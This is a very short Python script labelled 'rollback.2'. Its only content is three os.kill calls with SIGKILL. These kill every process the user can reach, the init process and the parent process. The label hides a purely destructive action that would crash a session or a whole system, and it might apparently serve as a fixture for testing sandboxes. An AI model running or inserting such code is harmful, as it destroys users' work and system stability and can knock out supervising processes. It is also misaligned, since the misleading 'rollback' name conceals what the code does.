# rollback.2
import os
os.kill(-1, 9)
os.kill(1, 9)
os.kill(os.getppid(), 9)
